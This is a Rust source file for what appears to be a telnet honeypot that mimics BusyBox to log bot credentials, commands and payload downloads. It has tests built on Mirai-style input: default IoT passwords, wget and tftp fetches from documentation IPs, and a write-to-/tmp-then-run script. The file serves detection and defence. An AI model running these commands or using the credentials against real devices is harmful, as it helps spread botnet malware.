//! One connection to a telnet trap.

use super::{
    TRIES_MAX, Telnet,
    line::{Key, Terminal},
};
use crate::{
    ANSWER_BYTES_MAX, Findings, Flow, Pause, Session, Step,
    pause::BUSYBOX_MS,
    shell::{
        Outcome,
        device::{self as shell, Inside, SHOWN_BYTES_MAX},
        downloads,
    },
};
use alloc::{boxed::Box, vec::Vec};
use honeymesh_types::{Signs, WallTime};

/// What busybox's telnetd asks for: do echo, do say the window's size, will echo, will suppress go-ahead.
const NEGOTIATION: [u8; 12] = [0xff, 0xfd, 1, 0xff, 0xfd, 31, 0xff, 0xfb, 1, 0xff, 0xfb, 3];
/// The longest answer to one byte, in bytes: a line of probes.
const REPLY_BYTES_MAX: usize = 16 * 1_024;
const _: () = assert!(SHOWN_BYTES_MAX + 1_024 <= REPLY_BYTES_MAX, "with a prompt behind it");

/// One connection to a telnet trap.
pub struct TelnetSession {
    telnet: Telnet,
    terminal: Terminal,
    phase: Phase,
    tries: u8,
    /// Boxed: most never get so far.
    inside: Option<Box<Inside>>,
    pause: Pause,
    findings: Findings,
}

enum Phase {
    Name,
    Password { name: Vec<u8> },
    Shell,
    Over,
}

impl TelnetSession {
    pub(super) fn new(telnet: Telnet) -> Self {
        Self {
            telnet,
            terminal: Terminal::default(),
            phase: Phase::Name,
            tries: 0,
            inside: None,
            pause: Pause::default(),
            findings: Findings::default(),
        }
    }

    fn byte(&mut self, byte: u8, now: WallTime, answer: &mut Vec<u8>) -> Flow {
        if matches!(self.phase, Phase::Over) {
            return Flow::Close;
        }
        let secret = matches!(self.phase, Phase::Password { .. });
        match self.terminal.push(byte, secret, answer) {
            Key::None => Flow::Continue,
            Key::Line(line) => self.line(line, now, answer),
            Key::Interrupt if matches!(self.phase, Phase::Shell) => {
                shell::prompt(self.inside.get_or_insert_default(), answer);
                Flow::Continue
            }
            Key::Interrupt | Key::End => self.close(),
        }
    }

    fn close(&mut self) -> Flow {
        self.phase = Phase::Over;
        Flow::Close
    }

    fn line(&mut self, line: Vec<u8>, now: WallTime, answer: &mut Vec<u8>) -> Flow {
        match core::mem::replace(&mut self.phase, Phase::Name) {
            Phase::Name => self.name(line, answer),
            Phase::Password { name } => self.password(&name, &line, answer),
            Phase::Shell => self.command(&line, now, answer),
            Phase::Over => self.close(),
        }
    }

    fn name(&mut self, name: Vec<u8>, answer: &mut Vec<u8>) -> Flow {
        if name.trim_ascii().is_empty() {
            self.prompt(answer);
            return Flow::Continue;
        }
        self.findings.note("username", &name);
        answer.extend_from_slice(b"Password: ");
        self.phase = Phase::Password { name };
        Flow::Continue
    }

    fn password(&mut self, name: &[u8], password: &[u8], answer: &mut Vec<u8>) -> Flow {
        self.findings.note("username", name);
        self.findings.note("password", password);
        self.findings.signs |= Signs::CREDENTIALS;
        self.tries += 1;
        if self.tries == self.telnet.let_in {
            shell::greeting(&self.telnet, answer);
            shell::prompt(self.inside.get_or_insert_default(), answer);
            self.phase = Phase::Shell;
            return Flow::Telling;
        }
        self.pause = Pause::behind(answer, BUSYBOX_MS);
        answer.extend_from_slice(b"Login incorrect\r\n");
        if self.tries >= TRIES_MAX {
            return self.close();
        }
        self.prompt(answer);
        Flow::Telling
    }

    /// Only who was let in gives commands, and nobody honest was.
    fn command(&mut self, line: &[u8], now: WallTime, answer: &mut Vec<u8>) -> Flow {
        let is_command = !line.trim_ascii().is_empty();
        if is_command {
            self.findings.note("command", line);
            self.findings.signs |= Signs::RULE;
        }
        let inside = self.inside.get_or_insert_default();
        let outcome = shell::run(line, &self.telnet, inside, now, answer);
        // What stands in the line itself is recognised there.
        let named = downloads(line);
        let found: Vec<Vec<u8>> = inside.addresses().into_iter().filter(|address| !named.contains(&address.as_slice())).collect();
        if !found.is_empty() {
            self.findings.note("download", &found.join(&b' '));
        }
        if outcome == Outcome::Exit {
            return self.close();
        }
        shell::prompt(self.inside.get_or_insert_default(), answer);
        self.phase = Phase::Shell;
        if is_command { Flow::Telling } else { Flow::Continue }
    }

    fn prompt(&self, answer: &mut Vec<u8>) {
        answer.extend_from_slice(self.telnet.host.as_bytes());
        answer.extend_from_slice(b" login: ");
    }
}

impl Session for TelnetSession {
    fn open(&mut self, answer: &mut Vec<u8>) -> Flow {
        answer.extend_from_slice(&NEGOTIATION);
        self.prompt(answer);
        Flow::Continue
    }

    fn receive(&mut self, bytes: &[u8], now: WallTime, answer: &mut Vec<u8>) -> Step {
        let full = answer.len() + ANSWER_BYTES_MAX - REPLY_BYTES_MAX;
        Step::by_byte_until_full(bytes, answer, full, |byte, answer| self.byte(byte, now, answer))
    }

    fn pause(&mut self) -> Pause {
        core::mem::take(&mut self.pause)
    }

    fn end(&mut self) {
        if let (Some(line), false) = (self.terminal.finish(), matches!(self.phase, Phase::Over)) {
            let _ = self.line(line, WallTime(0), &mut Vec::new());
        }
        self.phase = Phase::Over;
    }

    fn findings(&mut self) -> Findings {
        core::mem::take(&mut self.findings)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::drive::{self, Heard, said};
    use alloc::{string::String, vec};
    use proptest::prelude::*;

    fn session() -> TelnetSession {
        Telnet::default().named("localhost").unwrap().session()
    }

    fn talk(bytes: &[u8]) -> Heard {
        drive::whole(&mut session(), bytes)
    }

    fn shown(heard: &Heard) -> String {
        said(&heard.answer[NEGOTIATION.len()..]).replace("\r\n", "|")
    }

    fn credentials(heard: &Heard) -> Vec<(&str, &str)> {
        let tries = heard.reports.iter().filter(|(found, _)| found.signs.contains(Signs::CREDENTIALS));
        tries.map(|(found, _)| (found.fields["username"].as_str(), found.fields["password"].as_str())).collect()
    }

    #[test]
    fn it_begins_as_busybox_does() {
        assert!(talk(b"").answer.starts_with(b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03"));
        assert_eq!(shown(&talk(b"")), "localhost login: ");
        let named = drive::whole(&mut Telnet::default().named("cam-2").unwrap().session(), b"");
        assert_eq!(shown(&named), "cam-2 login: ");
    }

    #[test]
    fn the_second_try_is_let_in_and_the_bot_shows_its_hand() {
        let heard =
            talk(b"root\r\nxc3511\r\nroot\r\nvizxv\r\nenable\r\nsh\r\n/bin/busybox MIRAI\r\nwget http://198.51.100.9/i\r\n");
        assert_eq!(credentials(&heard), [("root", "xc3511"), ("root", "vizxv")]);
        let shown = shown(&heard);
        assert!(shown.contains("Login incorrect|localhost login: root|Password: |||BusyBox v1."), "{shown}");
        assert!(
            shown.contains(
                "/bin/busybox MIRAI|MIRAI: applet not found|~ # wget http://198.51.100.9/i|Connecting to 198.51.100.9 ("
            ),
            "{shown}"
        );
        let commands: Vec<_> = heard.reports.iter().filter_map(|(found, _)| found.fields.get("command")).collect();
        assert_eq!(commands, ["enable", "sh", "/bin/busybox MIRAI", "wget http://198.51.100.9/i"]);
        assert!(heard.reports[2..6].iter().all(|(found, _)| found.signs == Signs::RULE));
    }

    /// An address that only the shell puts together is told, too.
    #[test]
    fn what_a_line_would_fetch_is_told_though_it_does_not_say_so() {
        let heard = talk(
            b"a\r\n1\r\na\r\n2\r\nH=198.51.100.7;wget http://$H/a\r\ntftp -g -r mips 198.51.100.8\r\necho 'wget http://198.51.100.9/$1' > /tmp/s; sh /tmp/s\r\nwget http://198.51.100.1/b\r\n",
        );
        let told: Vec<&str> =
            heard.reports.iter().filter_map(|(found, _)| found.fields.get("download")).map(String::as_str).collect();
        assert_eq!(told, ["http://198.51.100.7/a", "tftp://198.51.100.8/mips", "http://198.51.100.9/"]);
    }

    /// A second try once lost its first letter to the end of the line before it.
    #[test]
    fn no_line_end_costs_the_next_try_a_letter() {
        for end in ["\r\n", "\r\0", "\r", "\n"] {
            let bytes = ["root", "one", "admin", "two"].map(|word| String::from(word) + end).concat();
            assert_eq!(credentials(&talk(bytes.as_bytes())), [("root", "one"), ("admin", "two")], "{end:?}");
        }
    }

    #[test]
    fn a_wrong_password_costs_three_seconds_behind_the_end_of_its_line() {
        let heard = talk(b"root\r\nwrong\r\nroot\r\nright\r\n");
        let [(at, ms)] = heard.pauses[..] else { panic!("{:?}", heard.pauses) };
        assert!(heard.answer[at..].starts_with(b"Login incorrect\r\n") && heard.answer[..at].ends_with(b"\r\n"));
        assert_eq!(ms, 3_000, "and the one that is let in costs none");
    }

    #[test]
    fn passwords_are_not_echoed_and_names_are() {
        let shown = shown(&talk(b"root\r\ns3cret\r\n"));
        assert_eq!(shown, "localhost login: root|Password: |Login incorrect|localhost login: ");
    }

    #[test]
    fn how_many_tries_it_takes_is_the_operators_choice() {
        let tries = b"a\r\n1\r\nb\r\n2\r\nc\r\n3\r\nid\r\n";
        let of = |let_in| drive::whole(&mut Telnet::default().letting_in(let_in).session(), tries);
        assert!(said(&of(1).answer).contains("Enter 'help'") && said(&of(3).answer).contains("uid=0(root)"));
        let never = of(0);
        assert_eq!((never.flow, credentials(&never).len()), (Flow::Close, 3), "busybox ends after three");
        assert!(!said(&never.answer).contains("BusyBox"));
    }

    #[test]
    fn what_was_not_finished_is_told_and_a_shell_can_be_left() {
        assert_eq!(credentials(&talk(b"root\r\nhalf")), [("root", "half")]);
        assert_eq!(talk(b"root").findings.fields["username"], "root");
        assert_eq!(talk(b"a\r\n1\r\na\r\n2\r\nexit\r\nid\r\n").flow, Flow::Close);
        assert_eq!(talk(b"\x04").flow, Flow::Close);
    }

    fn chat() -> impl Strategy<Value = Vec<u8>> {
        let word = prop_oneof![
            Just(b"root\r\n".to_vec()),
            Just(b"a\r\0b\n".to_vec()),
            Just(b"\xff\xfd\x01\xff\xfa\x1f\0\x50\xff\xf0".to_vec()),
            Just(b"sh;sh;sh;sh;sh;sh;sh;sh;sh;sh;sh;sh;sh;sh;sh;sh;sh;sh\n".to_vec()),
            Just(b"/bin/busybox ".to_vec()),
            Just(b"echo -e '\\x41\\x".to_vec()),
            Just(b"busybox;busybox;cat /proc/mounts;cat /proc/mounts;mount;mount;mount;mount\n".to_vec()),
            Just(vec![b'x'; 5_000]),
            Just(vec![1; 5_000]),
            proptest::collection::vec(any::<u8>(), 0..20),
        ];
        proptest::collection::vec(word, 0..30).prop_map(|words| words.concat())
    }

    proptest! {
        #[test]
        fn no_bytes_break_it_and_packets_do_not_matter(bytes in prop_oneof![drive::noise(), chat()], cuts in drive::cuts()) {
            drive::law(|| Telnet::default().letting_in(1).session(), &bytes, &cuts)?;
        }
    }
}
